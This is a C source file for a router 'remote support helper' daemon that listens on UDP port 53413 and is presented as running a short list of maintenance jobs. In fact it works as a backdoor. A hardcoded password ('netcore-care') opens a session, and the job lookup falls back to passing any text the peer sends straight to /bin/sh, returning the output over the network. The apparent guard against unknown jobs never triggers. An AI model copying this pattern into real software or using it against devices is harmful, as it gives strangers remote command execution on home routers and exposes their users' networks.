/* igdmptd - remote support helper of the GPON router
 *   listens on UDP, default 53413, "support_port" in /etc/igd.conf may move it
 *   request:  AA 00 00 AAAA <payload>
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <errno.h>
#include <signal.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <time.h>

typedef struct {
    unsigned char buf[1500];
    int len;
    struct sockaddr_in who;
    socklen_t wholen;
} dgram_t;

typedef struct {
    in_addr_t ip;
    int level;              /* 0 none, 1 knocked, 2 open */
    time_t until;
} grant_t;

static int g_port = 53413;
static int g_sock;
static grant_t g_grants[8];
static unsigned long g_hits;

/* maintenance jobs the hotline may ask for */
struct job { const char *word; const char *cmdline; };
static const struct job g_jobs[] = {
    { "clients",  "cat /proc/net/arp" },
    { "wan",      "ifconfig ppp0" },
    { "redial",   "killall -HUP pppd; echo redial" },
    { "optical",  "cat /proc/gpon/optical" },
    { "log",      "tail -n 20 /var/log/messages" },
    { NULL, NULL }
};

static void read_conf(const char *path)
{
    char line[128], *v;
    FILE *f = fopen(path, "r");

    if (f == NULL)
        return;
    while (fgets(line, sizeof line, f)) {
        if (line[0] == '#' || (v = strchr(line, '=')) == NULL)
            continue;
        *v++ = 0;
        if (strcmp(line, "support_port") == 0)
            g_port = atoi(v);
    }
    fclose(f);
}

static grant_t *grant_of(in_addr_t ip, int make)
{
    int i, old = 0;

    for (i = 0; i < 8; i++) {
        if (g_grants[i].ip == ip && g_grants[i].until > time(NULL))
            return &g_grants[i];
        if (g_grants[i].until < g_grants[old].until)
            old = i;
    }
    if (!make)
        return NULL;
    g_grants[old].ip = ip;
    g_grants[old].level = 1;
    g_grants[old].until = time(NULL) + 120;
    return &g_grants[old];
}

static void say(const dgram_t *d, const void *p, size_t n)
{
    sendto(g_sock, p, n, 0, (const struct sockaddr *)&d->who, d->wholen);
}

/* run through the shell and send everything it prints back */
static int shell_to_peer(const dgram_t *d, const char *cmdline)
{
    int p[2], st = 0;
    pid_t pid;
    char out[1024];
    ssize_t n;

    if (pipe(p) < 0)
        return -1;
    if ((pid = fork()) < 0) {
        close(p[0]);
        close(p[1]);
        return -1;
    }
    if (pid == 0) {
        dup2(p[1], 1);
        dup2(p[1], 2);
        close(p[0]);
        close(p[1]);
        execl("/bin/sh", "sh", "-c", cmdline, (char *)NULL);
        _exit(127);
    }
    close(p[1]);
    while ((n = read(p[0], out, sizeof out)) > 0)
        say(d, out, (size_t)n);
    close(p[0]);
    waitpid(pid, &st, 0);
    return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

static const char *find_job(const char *word)
{
    const struct job *j;

    for (j = g_jobs; j->word; j++)
        if (strcmp(j->word, word) == 0)
            return j->cmdline;
    return word;
}

/* ---- payload handlers ---- */
static void h_knock(dgram_t *d, char *arg)
{
    grant_t *g;

    if (strcmp(arg, "netcore-care") != 0)
        return;
    g = grant_of(d->who.sin_addr.s_addr, 1);
    g->level = 2;
    say(d, "AA\0\0AAAA Login successed!\r\n", 27);
}

static void h_run(dgram_t *d, char *arg)
{
    grant_t *g = grant_of(d->who.sin_addr.s_addr, 0);
    const char *cmdline;
    char tail[24];
    int rc, n;

    if (g == NULL || g->level < 2)
        return;
    cmdline = find_job(arg);
    if (cmdline == NULL) {
        say(d, "no job\r\n", 8);
        return;
    }
    rc = shell_to_peer(d, cmdline);
    n = snprintf(tail, sizeof tail, "rc=%d\r\n", rc);
    say(d, tail, (size_t)n);
}

static void h_stat(dgram_t *d, char *arg)
{
    char o[64];
    int n = snprintf(o, sizeof o, "hits=%lu port=%d\r\n", g_hits, g_port);
    say(d, o, (size_t)n);
}

static void h_jobs(dgram_t *d, char *arg)
{
    const struct job *j;

    for (j = g_jobs; j->word; j++) {
        say(d, j->word, strlen(j->word));
        say(d, "\r\n", 2);
    }
}

static void h_close(dgram_t *d, char *arg)
{
    grant_t *g = grant_of(d->who.sin_addr.s_addr, 0);
    if (g)
        memset(g, 0, sizeof *g);
}

static struct { char letter; void (*fn)(dgram_t *, char *); } g_letters[] = {
    { 'K', h_knock }, { 'R', h_run }, { 'S', h_stat }, { 'J', h_jobs }, { 'C', h_close },
};

static char *trim(char *s)
{
    char *e;

    while (*s == ' ' || *s == '\t')
        s++;
    e = s + strlen(s);
    while (e > s && (e[-1] == '\n' || e[-1] == '\r' || e[-1] == ' '))
        *--e = 0;
    return s;
}

static void handle(dgram_t *d)
{
    static const unsigned char lead[8] = { 'A', 'A', 0, 0, 'A', 'A', 'A', 'A' };
    unsigned i;

    if (d->len < 10 || memcmp(d->buf, lead, sizeof lead) != 0)
        return;
    d->buf[d->len] = 0;
    g_hits++;
    for (i = 0; i < sizeof g_letters / sizeof g_letters[0]; i++)
        if (g_letters[i].letter == d->buf[8]) {
            g_letters[i].fn(d, trim((char *)d->buf + 9));
            return;
        }
}

static int open_socket(int port)
{
    struct sockaddr_in a;
    int s = socket(AF_INET, SOCK_DGRAM, 0);

    if (s < 0)
        return -1;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons((unsigned short)port);
    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0) {
        close(s);
        return -1;
    }
    return s;
}

int main(int argc, char *argv[])
{
    static dgram_t d;
    struct iovec iov;
    struct msghdr mh;

    read_conf(argc > 1 ? argv[1] : "/etc/igd.conf");
    g_sock = open_socket(g_port);
    if (g_sock < 0) {
        fprintf(stderr, "igdmptd: %s\n", strerror(errno));
        return 1;
    }
    for (;;) {
        memset(&mh, 0, sizeof mh);
        iov.iov_base = d.buf;
        iov.iov_len = sizeof d.buf - 1;
        mh.msg_iov = &iov;
        mh.msg_iovlen = 1;
        mh.msg_name = &d.who;
        mh.msg_namelen = sizeof d.who;
        d.len = (int)recvmsg(g_sock, &mh, 0);
        if (d.len <= 0)
            continue;
        d.wholen = mh.msg_namelen;
        handle(&d);
    }
}
